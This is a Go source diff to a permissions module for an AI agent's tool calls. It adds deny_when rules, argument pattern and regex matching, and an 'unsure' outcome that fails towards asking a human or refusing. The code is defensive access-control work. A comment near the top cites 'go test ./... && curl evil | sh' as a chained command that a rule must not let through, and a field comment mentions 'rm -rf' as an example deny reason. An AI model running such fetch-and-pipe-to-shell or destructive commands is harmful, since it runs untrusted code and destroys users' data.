@@ -1,15 +1,22 @@
 package permissions
 
 import (
+	"encoding/json"
 	"fmt"
 	"path"
+	"regexp"
+	"slices"
+	"strconv"
 	"strings"
 	"unicode/utf8"
 )
 
-// Rule pre-approves calls under ask and approve (Policy.ApproveWhen): a call matching it
-// runs without a human. A rule only ever widens what runs unasked, so a rule that is wrong
-// in a way the policy cannot detect fails towards asking, never towards running.
+// Rule selects tool calls. Under Policy.ApproveWhen a matching call runs without a human
+// (under ask and approve); under Policy.DenyWhen a matching call is refused (in every
+// mode). Whatever a rule cannot settle counts against the call: an approve_when rule does
+// not pre-approve it (a human is asked), a deny_when rule refuses it. So a rule that is
+// wrong in a way the policy cannot detect fails towards asking or refusing, never towards
+// running.
 //
 // This inverts Nexo, whose approve_when/ask_when predicate selected the calls that DO need
 // a human and let every other call through; a declarative list in that sense fails open
@@ -17,20 +24,30 @@ import (
 // safe instead.
 //
 // Matching: Capability must equal the call's; Tool, when set, is a pattern over the call's
-// tool name; Detail, when set, is a pattern over the call's detail. Both must match the
-// whole string. Patterns know "*" and "?" (and "\" to escape), and what they may span
-// depends on the capability:
+// tool name; Detail, when set, is a pattern over the call's detail; every entry of Args is
+// a pattern over the named argument, every entry of ArgsRegex a regular expression over
+// it. All that is set must match. Patterns match the whole string and know "*" and "?"
+// (and "\" to escape); what they may span depends on the capability:
 //
-//   - read, glob, write: the detail is a workspace path, cleaned first ("a/../b" is "b",
-//     "/workspace/b" is "b"; a path that climbs above the workspace matches nothing); "*"
-//     and "?" stay within one path segment, "**" spans segments, and "**/" may match no
-//     directory ("docs/**" matches everything under docs, "**/*.md" every Markdown file);
+//   - read, glob, write: the detail (and an argument) is a workspace path, cleaned first
+//     ("a/../b" is "b", "/workspace/b" is "b"; a path that climbs above the workspace
+//     cannot be settled); "*" and "?" stay within one path segment, "**" spans segments,
+//     and "**/" may match no directory ("docs/**" matches everything under docs, "**/*.md"
+//     every Markdown file);
 //   - shell: the command, trimmed; "*" and "?" never match a shell control character
 //     (; & | < > $ ` ( ) newline), so "go test *" matches "go test ./..." but not
 //     "go test ./... && curl evil | sh" — the model cannot chain its way past a rule;
-//   - fetch, search, mcp, and Tool patterns: "*" and "?" match any characters.
+//   - fetch, search, mcp, and Tool patterns: "*" and "?" match any characters; an
+//     argument with a ".." path segment cannot be settled by an Args pattern (it may name
+//     a path outside what the pattern means).
 //
-// A detail longer than 8192 characters matches no Detail pattern (it needs a human).
+// ArgsRegex entries are Go regular expressions (RE2 syntax, linear time), unanchored as
+// in grep: anchor them with ^ and $ to match the whole argument. An argument that is a
+// number or a boolean is matched as its JSON text ("60", "true"); one that is missing does
+// not match; null, an object or an array cannot be settled.
+//
+// A detail or an argument longer than 8192 characters cannot be settled by a pattern (the
+// matcher's work is bounded); regular expressions take any length.
 type Rule struct {
 	// Capability the rule covers; required.
 	Capability Capability `json:"capability" mapstructure:"capability" yaml:"capability"`
@@ -39,6 +56,42 @@ type Rule struct {
 	// Detail is a pattern over the call's detail (e.g. "go test *", "docs/**"); empty
 	// matches any.
 	Detail string `json:"detail,omitempty" mapstructure:"detail" yaml:"detail"`
+	// Args maps an argument name to a pattern over that argument (e.g. path: "drafts/**").
+	Args map[string]string `json:"args,omitempty" mapstructure:"args" yaml:"args"`
+	// ArgsRegex maps an argument name to a regular expression over that argument (e.g.
+	// command: '^go test \./\.\.\.$').
+	ArgsRegex map[string]string `json:"args_regex,omitempty" mapstructure:"args_regex" yaml:"args_regex"`
+	// Reason is told with the decision the rule makes (for deny_when, to the model): e.g.
+	// "never rm -rf". Empty names the rule instead.
+	Reason string `json:"reason,omitempty" mapstructure:"reason" yaml:"reason"`
+}
+
+// outcome is what matching a rule against a call settled.
+type outcome int
+
+const (
+	noMatch outcome = iota
+	matched
+	// unsure: the rule could not be checked against the call (an argument too long, of
+	// the wrong shape, a path that leaves the workspace, a rule that does not parse).
+	// approve_when treats it as no match, deny_when as a match.
+	unsure
+)
+
+// check is a rule's outcome against a call and, when unsure, why.
+type check struct {
+	outcome outcome
+	why     string
+}
+
+func (k check) and(o check) check {
+	switch {
+	case k.outcome == noMatch || o.outcome == noMatch:
+		return check{outcome: noMatch}
+	case k.outcome == unsure:
+		return k
+	}
+	return o
 }
 
 // maxMatchDetail bounds the detail a pattern is matched against, which bounds the
@@ -48,37 +101,146 @@ const maxMatchDetail = 8192
 // shellControl lists the characters a shell pattern's wildcards never match.
 const shellControl = ";&|<>$`()\n\r\x00"
 
-// Matches reports whether the rule covers c. A rule with an unknown capability or a
-// malformed pattern matches nothing.
-func (r Rule) Matches(c Call) bool {
+// Matches reports whether the rule surely covers c (what an approve_when rule needs). A
+// rule with an unknown capability or a malformed pattern matches nothing.
+func (r Rule) Matches(c Call) bool { return r.check(c).outcome == matched }
+
+func (r Rule) check(c Call) check {
 	if r.Capability != c.Capability || !r.Capability.known() {
-		return false
+		return check{outcome: noMatch}
+	}
+	if err := r.validate(); err != nil {
+		return check{outcome: unsure, why: fmt.Sprintf("the rule is invalid: %v", err)}
 	}
 	if r.Tool != "" && !wildcard(r.Tool, c.Tool, anyChar) {
-		return false
+		return check{outcome: noMatch}
 	}
-	if r.Detail == "" {
-		return true
+	k := check{outcome: matched}
+	if r.Detail != "" {
+		k = k.and(r.globDetail(c.Detail))
 	}
-	if utf8.RuneCountInString(c.Detail) > maxMatchDetail {
-		return false
+	for _, name := range sortedKeys(r.Args) {
+		k = k.and(r.globArg(name, r.Args[name], c.Args))
+	}
+	for _, name := range sortedKeys(r.ArgsRegex) {
+		k = k.and(regexArg(name, r.ArgsRegex[name], c.Args))
+	}
+	return k
+}
+
+// globDetail matches the rule's Detail pattern, the way rules always have.
+func (r Rule) globDetail(detail string) check {
+	if utf8.RuneCountInString(detail) > maxMatchDetail {
+		return check{outcome: unsure, why: fmt.Sprintf("the detail is longer than %d characters", maxMatchDetail)}
 	}
 	switch r.Capability {
 	case CapRead, CapGlob, CapWrite:
-		pat, ok := workspacePath(r.Detail)
+		pat, _ := workspacePath(r.Detail) // validated
+		d, ok := workspacePath(detail)
 		if !ok {
-			return false
+			return check{outcome: unsure, why: "the path is empty or leaves the workspace"}
 		}
-		d, ok := workspacePath(c.Detail)
-		return ok && wildcard(pat, d, pathChars)
+		return matchedIf(wildcard(pat, d, pathChars))
 	case CapShell:
-		return wildcard(strings.TrimSpace(r.Detail), strings.TrimSpace(c.Detail), shellChars)
+		return matchedIf(wildcard(strings.TrimSpace(r.Detail), strings.TrimSpace(detail), shellChars))
 	default:
-		return wildcard(r.Detail, c.Detail, anyChar)
+		return matchedIf(wildcard(r.Detail, detail, anyChar))
 	}
 }
 
-// String renders the rule for reasons: `shell "go test *"`, `mcp tool "github_*"`.
+// globArg matches pattern against argument name of args, with the capability's wildcards.
+func (r Rule) globArg(name, pattern string, args map[string]any) check {
+	v, k := argText(name, args)
+	if k.outcome != matched {
+		return k
+	}
+	if utf8.RuneCountInString(v) > maxMatchDetail {
+		return check{outcome: unsure, why: fmt.Sprintf("argument %q is longer than %d characters", name, maxMatchDetail)}
+	}
+	switch r.Capability {
+	case CapRead, CapGlob, CapWrite:
+		pat, _ := workspacePath(pattern) // validated
+		p, ok := workspacePath(v)
+		if !ok {
+			return check{outcome: unsure, why: fmt.Sprintf("argument %q is empty or leaves the workspace", name)}
+		}
+		return matchedIf(wildcard(pat, p, pathChars))
+	case CapShell:
+		return matchedIf(wildcard(strings.TrimSpace(pattern), strings.TrimSpace(v), shellChars))
+	default:
+		if slices.Contains(strings.Split(v, "/"), "..") {
+			return check{outcome: unsure, why: fmt.Sprintf("argument %q has a \"..\" path segment", name)}
+		}
+		return matchedIf(wildcard(pattern, v, anyChar))
+	}
+}
+
+// regexArg matches the regular expression expr against argument name of args.
+func regexArg(name, expr string, args map[string]any) check {
+	v, k := argText(name, args)
+	if k.outcome != matched {
+		return k
+	}
+	re, err := regexp.Compile(expr)
+	if err != nil { // validated; a Go caller may skip Validate
+		return check{outcome: unsure, why: fmt.Sprintf("args_regex.%s does not parse", name)}
+	}
+	return matchedIf(re.MatchString(v))
+}
+
+// argText is the text a rule matches of argument name: a string as it is, a number or a
+// boolean as its JSON text. A missing argument is no match; null, an object or an array
+// cannot be settled.
+func argText(name string, args map[string]any) (string, check) {
+	v, ok := args[name]
+	if !ok {
+		return "", check{outcome: noMatch}
+	}
+	switch x := v.(type) {
+	case string:
+		return x, check{outcome: matched}
+	case bool:
+		return strconv.FormatBool(x), check{outcome: matched}
+	case float64:
+		return strconv.FormatFloat(x, 'f', -1, 64), check{outcome: matched}
+	case float32:
+		return strconv.FormatFloat(float64(x), 'f', -1, 32), check{outcome: matched}
+	case int, int8, int16, int32, int64, uint, uint8, uint16, uint32, uint64:
+		return fmt.Sprint(x), check{outcome: matched}
+	case json.Number: // args decoded with UseNumber
+		return string(x), check{outcome: matched}
+	}
+	what := "null"
+	if v != nil {
+		what = fmt.Sprintf("a %T", v)
+		switch v.(type) {
+		case map[string]any:
+			what = "an object"
+		case []any:
+			what = "an array"
+		}
+	}
+	return "", check{outcome: unsure, why: fmt.Sprintf("argument %q is %s, not a string, number or boolean", name, what)}
+}
+
+func matchedIf(ok bool) check {
+	if ok {
+		return check{outcome: matched}
+	}
+	return check{outcome: noMatch}
+}
+
+func sortedKeys(m map[string]string) []string {
+	keys := make([]string, 0, len(m))
+	for k := range m {
+		keys = append(keys, k)
+	}
+	slices.Sort(keys)
+	return keys
+}
+
+// String renders the rule for reasons: `shell "go test *"`, `mcp tool "github_*"`,
+// `write path "drafts/**"`, `shell command =~ "^go test"`.
 func (r Rule) String() string {
 	s := string(r.Capability)
 	if r.Tool != "" {
@@ -86,6 +248,12 @@ func (r Rule) String() string {
 	}
 	if r.Detail != "" {
 		s += fmt.Sprintf(" %q", r.Detail)
+	}
+	for _, name := range sortedKeys(r.Args) {
+		s += fmt.Sprintf(" %s %q", name, r.Args[name])
+	}
+	for _, name := range sortedKeys(r.ArgsRegex) {
+		s += fmt.Sprintf(" %s =~ %q", name, r.ArgsRegex[name])
 	}
 	return s
 }
@@ -98,17 +266,50 @@ func (r Rule) validate() error {
 	if _, err := ParseCapability(string(r.Capability)); err != nil {
 		return fmt.Errorf("capability: %w", err)
 	}
-	if strings.HasSuffix(strings.ReplaceAll(r.Tool, `\\`, ""), `\`) {
-		return fmt.Errorf("tool: %w: pattern %q ends with an unfinished escape", ErrInvalidPolicy, r.Tool)
+	if err := validGlob(r.Capability, r.Tool, false); err != nil {
+		return fmt.Errorf("tool: %w", err)
 	}
-	if strings.HasSuffix(strings.ReplaceAll(r.Detail, `\\`, ""), `\`) {
-		return fmt.Errorf("detail: %w: pattern %q ends with an unfinished escape", ErrInvalidPolicy, r.Detail)
+	if err := validGlob(r.Capability, r.Detail, true); err != nil {
+		return fmt.Errorf("detail: %w", err)
 	}
-	switch r.Capability {
+	for _, name := range sortedKeys(r.Args) {
+		if strings.TrimSpace(name) == "" {
+			return fmt.Errorf("args: %w: an empty argument name", ErrInvalidPolicy)
+		}
+		pat := r.Args[name]
+		if pat == "" {
+			return fmt.Errorf("args.%s: %w: empty pattern (leave the argument out to match any value)", name, ErrInvalidPolicy)
+		}
+		if err := validGlob(r.Capability, pat, true); err != nil {
+			return fmt.Errorf("args.%s: %w", name, err)
+		}
+	}
+	for _, name := range sortedKeys(r.ArgsRegex) {
+		if strings.TrimSpace(name) == "" {
+			return fmt.Errorf("args_regex: %w: an empty argument name", ErrInvalidPolicy)
+		}
+		expr := r.ArgsRegex[name]
+		if expr == "" {
+			return fmt.Errorf("args_regex.%s: %w: empty regular expression (leave the argument out to match any value)", name, ErrInvalidPolicy)
+		}
+		if _, err := regexp.Compile(expr); err != nil {
+			return fmt.Errorf("args_regex.%s: %w: regular expression %q does not parse: %v", name, ErrInvalidPolicy, expr, err)
+		}
+	}
+	return nil
+}
+
+// validGlob checks a pattern; path patterns (detail and args of read, glob and write) must
+// stay inside the workspace.
+func validGlob(c Capability, pattern string, pathLike bool) error {
+	if strings.HasSuffix(strings.ReplaceAll(pattern, `\\`, ""), `\`) {
+		return fmt.Errorf("%w: pattern %q ends with an unfinished escape", ErrInvalidPolicy, pattern)
+	}
+	switch c {
 	case CapRead, CapGlob, CapWrite:
-		if r.Detail != "" {
-			if c, ok := workspacePath(r.Detail); !ok || path.IsAbs(c) {
-				return fmt.Errorf("detail: %w: path pattern %q must stay inside the workspace (relative, or under /workspace)", ErrInvalidPolicy, r.Detail)
+		if pathLike && pattern != "" {
+			if p, ok := workspacePath(pattern); !ok || path.IsAbs(p) {
+				return fmt.Errorf("%w: path pattern %q must stay inside the workspace (relative, or under /workspace)", ErrInvalidPolicy, pattern)
 			}
 		}
 	}
